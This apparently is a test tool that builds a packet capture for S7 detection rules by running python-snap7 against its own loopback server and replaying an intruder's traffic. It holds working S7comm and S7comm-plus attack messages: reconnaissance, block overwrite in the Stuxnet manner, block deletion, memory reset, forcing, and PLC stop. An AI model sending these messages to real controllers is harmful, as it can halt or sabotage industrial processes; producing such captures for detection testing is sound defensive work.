#!/usr/bin/env python3
"""Makes `rules/s7/captures/attack.pcap`: python-snap7 against its own server.

    python3 tests/tools/capture_s7.py FILE.pcap

Client and server run on loopback addresses, and `dumpcap` listens on `lo`, so it
needs the right to capture and to bind port 102. What the stack does not send
(organization blocks, memory reset, force, messages that contradict themselves) goes as
raw bytes to the same server. S7comm-plus, which the stack does not have, goes to a
second address, where a few lines answer: they also refuse connections to slots that
hold nothing. The capture is made once and kept; the script says how, and makes another
of the same shape.

    127.0.10.5   controller, python-snap7 server
    127.0.10.6   controller, S7comm-plus in raw bytes
    127.0.20.5   operator station and engineering: reads, writes, and moves a block
    127.0.30.9   intruder in the office

Made with python-snap7 3.3 and Wireshark 4.0.
"""

import datetime
import socket
import struct
import subprocess
import sys
import threading
import time

import snap7
from snap7.type import Area, Block, SrvArea

S7, PLUS, OPERATOR, INTRUDER = "127.0.10.5", "127.0.10.6", "127.0.20.5", "127.0.30.9"
PORT = 102
DATA_BLOCK = 1
BLOCK_SIZE = 400

source = OPERATOR
connect = socket.socket.connect


def connect_from(self, address):
    """Connects from the address of whoever acts."""
    self.bind((source, 0))
    connect(self, address)


def server() -> snap7.server.Server:
    made = snap7.server.Server(log=False)
    made.register_area(SrvArea.DB, DATA_BLOCK, bytearray(BLOCK_SIZE))
    for area in (SrvArea.PE, SrvArea.PA, SrvArea.MK):
        made.register_area(area, 0, bytearray(64))
    made.start_to(S7, PORT)
    return made


def client() -> snap7.client.Client:
    made = snap7.client.Client()
    made.connect(S7, 0, 2, PORT)
    return made


def attempt(step, *arguments) -> None:
    """What the server refuses is seen on the wire all the same."""
    try:
        step(*arguments)
    except Exception as refused:  # noqa: BLE001
        print(f"{step.__name__}: {refused}", file=sys.stderr)


def operate() -> None:
    """What happens all day, and a block that engineering loads."""
    plc = client()
    plc.db_read(DATA_BLOCK, 0, 16)
    plc.write_area(Area.MK, 0, 10, bytearray([1]))
    plc.read_area(Area.PE, 0, 0, 4)
    attempt(plc.download, bytearray(range(200)) * 2, DATA_BLOCK)
    plc.disconnect()


def attack() -> None:
    """What the stack can send."""
    plc = client()
    for szl in (0x0011, 0x001C, 0x0131, 0x0424, 0x0132):
        attempt(plc.read_szl, szl, 0)
    attempt(plc.list_blocks)
    attempt(plc.list_blocks_of_type, Block.DB, 10)
    attempt(plc.get_block_info, Block.DB, DATA_BLOCK)
    attempt(plc.upload, DATA_BLOCK)
    attempt(plc.download, bytearray(BLOCK_SIZE), DATA_BLOCK)
    attempt(plc.db_write, DATA_BLOCK, 0, bytearray(b"\xff\xff\xff\xff"))
    attempt(plc.write_area, Area.PA, 0, 0, bytearray([0xFF]))
    attempt(plc.write_area, Area.MK, 0, 10, bytearray([0]))
    attempt(plc.set_session_password, "12345678")
    attempt(plc.clear_session_password)
    attempt(plc.set_plc_datetime, datetime.datetime(2009, 11, 14, 3, 0, 0))
    attempt(plc.compress, 1000)
    attempt(plc.copy_ram_to_rom, 1000)
    attempt(plc.plc_stop)
    attempt(plc.plc_cold_start)
    attempt(plc.plc_hot_start)
    plc.disconnect()


def tpkt(tpdu: bytes) -> bytes:
    return struct.pack(">BBH", 3, 0, len(tpdu) + 4) + tpdu


def data(message: bytes) -> bytes:
    return tpkt(b"\x02\xf0\x80" + message)


def request(called: bytes) -> bytes:
    calling = b"\xc1\x02\x01\x00"
    tsap = b"\xc2" + bytes([len(called)]) + called
    rest = struct.pack(">BHHB", 0xE0, 0, 1, 0) + b"\xc0\x01\x0a" + calling + tsap
    return tpkt(bytes([len(rest)]) + rest)


def job(reference: int, parameter: bytes, payload: bytes = b"") -> bytes:
    lengths = struct.pack(">BBHHHH", 0x32, 1, 0, reference, len(parameter), len(payload))
    return data(lengths + parameter + payload)


def userdata(reference: int, group: int, function: int, payload: bytes) -> bytes:
    parameter = bytes([0x00, 0x01, 0x12, 0x04, 0x11, 0x40 | group, function, 0x00])
    body = struct.pack(">BBH", 0xFF, 9, len(payload)) + payload
    lengths = struct.pack(">BBHHHH", 0x32, 7, 0, reference, len(parameter), len(body))
    return data(lengths + parameter + body)


SETUP = job(1, bytes.fromhex("F0 00 0001 0001 01E0"))


def file_job(function: int, name: bytes, lengths: bytes = b"") -> bytes:
    return bytes([function, 0, 1, 0, 0, 0, 0, 0, len(name)]) + name + lengths


PI = bytes.fromhex("28 000000000000FD")

RAW = [
    # Stuxnet's way: OB1 and OB35 are replaced, and linked into the running program.
    job(2, file_job(0x1A, b"_0800001P", b"\x0d1000220000100")),
    job(3, file_job(0x1A, b"_0800035P", b"\x0d1000300000180")),
    job(4, PI + bytes.fromhex("000A 01 00") + b"0800035P" + b"\x05_INSE"),
    # A block is deleted: the stack lays the list of blocks out in its own way.
    job(9, PI + bytes.fromhex("000A 01 00") + b"0A00007B" + b"\x05_DELE"),
    # A block of the system is fetched.
    job(5, file_job(0x1D, b"_0B00000A")),
    # Memory reset, and a force.
    userdata(6, 1, 0x0C, bytes.fromhex("0014 0000 0000 0000")),
    userdata(7, 1, 0x09, bytes.fromhex("0014 0004 0000 0000 0001 0100 0002 0001")),
    # Two variables are announced, one is there.
    job(8, bytes.fromhex("05 02 12 0A 10 02 0001 0001 84 000000"), bytes.fromhex("00 04 0008 FF")),
]


def exchange(address: str, called: bytes, messages: list[bytes]) -> None:
    """Sends messages one after the other, whatever is answered."""
    with socket.socket() as stream:
        stream.settimeout(0.3)
        stream.connect((address, PORT))
        for message in [request(called), *messages]:
            stream.sendall(message)
            try:
                if not stream.recv(4096):
                    return
            except (TimeoutError, ConnectionError):
                pass


def raw() -> None:
    for message in RAW:
        # A connection each: the server closes some of them.
        attempt(exchange, S7, b"\x01\x02", [SETUP, message])


def plus(opcode: int, function: int, sequence: int, body: bytes, version: int = 2) -> bytes:
    head = struct.pack(">BHHHH", opcode, 0, function, 0, sequence)
    message = head + body
    frame = struct.pack(">BBH", 0x72, version, len(message)) + message
    return data(frame + struct.pack(">BBH", 0x72, version, 0))


SESSION = 0x3C0
HEAD = struct.pack(">IB", SESSION, 0x34)
CREATE_SESSION = (
    struct.pack(">IB", 0x120, 0x36)
    + bytes.fromhex("0000011D 00 04 00 00000000 A1 000000D3 82 1F 00 00 A3 81 69 00 15 0C")
    + b"Session_Test"
    + bytes.fromhex("A2 00000000")
)
PLUS_REQUESTS = [
    plus(0x31, 0x04CA, 1, CREATE_SESSION, version=1),
    # The blocks of the program.
    plus(0x31, 0x04BB, 2, HEAD + bytes.fromhex("00000003 00 01 01 00 00 02 8169 9359 00000000 00")),
    # A variable of data block 6.
    plus(0x31, 0x054C, 3, HEAD + bytes.fromhex("00000000 01 05 00 88D0B88006 02 9376 16 00000000")),
    # The operating state: 1 is stop.
    plus(0x31, 0x04F2, 4, HEAD + bytes.fromhex("00000034 01 9077 00 08 01 00000000")),
    # Data block 7 is deleted.
    plus(0x31, 0x04D4, 5, HEAD + bytes.fromhex("8A0E0007 00 00000000")),
]


def plus_answer(message: bytes) -> bytes | None:
    """Says yes to what a message asks."""
    if len(message) < 7 or message[5] == 0xE0:
        called = message[-15:]
        if called == b"SIMATIC-ROOT-ES":
            rest = struct.pack(">BHHB", 0xD0, 1, 7, 0) + message[11:]
            return tpkt(bytes([len(rest)]) + rest)
        # Address unknown.
        return tpkt(bytes.fromhex("06 80 0001 0007 03"))
    version, function, sequence = message[8], message[14:16], message[18:20]
    body = b"\x34\x00"
    if function == b"\x04\xca":
        body = bytes.fromhex("36 00 01 8740")
    return plus(
        0x32, *struct.unpack(">HH", function + sequence), body + bytes(4), version
    )


def answer_plus(listening: socket.socket) -> None:
    while True:
        try:
            stream, _ = listening.accept()
        except OSError:
            return
        with stream:
            while message := stream.recv(4096):
                stream.sendall(plus_answer(message))


def play() -> None:
    global source
    serving = server()
    listening = socket.socket()
    listening.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listening.bind((PLUS, PORT))
    listening.listen()
    threading.Thread(target=answer_plus, args=(listening,), daemon=True).start()
    socket.socket.connect = connect_from
    operate()
    source = INTRUDER
    attack()
    raw()
    for slot in range(3, 6):
        attempt(exchange, PLUS, bytes([1, slot]), [])
    attempt(exchange, PLUS, b"SIMATIC-ROOT-ES", PLUS_REQUESTS)
    listening.close()
    serving.stop()


def main() -> None:
    [path] = sys.argv[1:]
    listen = ["dumpcap", "-q", "-P", "-i", "lo", "-f", f"tcp port {PORT}", "-w", path]
    capture = subprocess.Popen(listen, stderr=subprocess.DEVNULL)
    time.sleep(1.5)
    try:
        play()
        time.sleep(1.5)
    finally:
        capture.terminate()
        capture.wait()


if __name__ == "__main__":
    main()
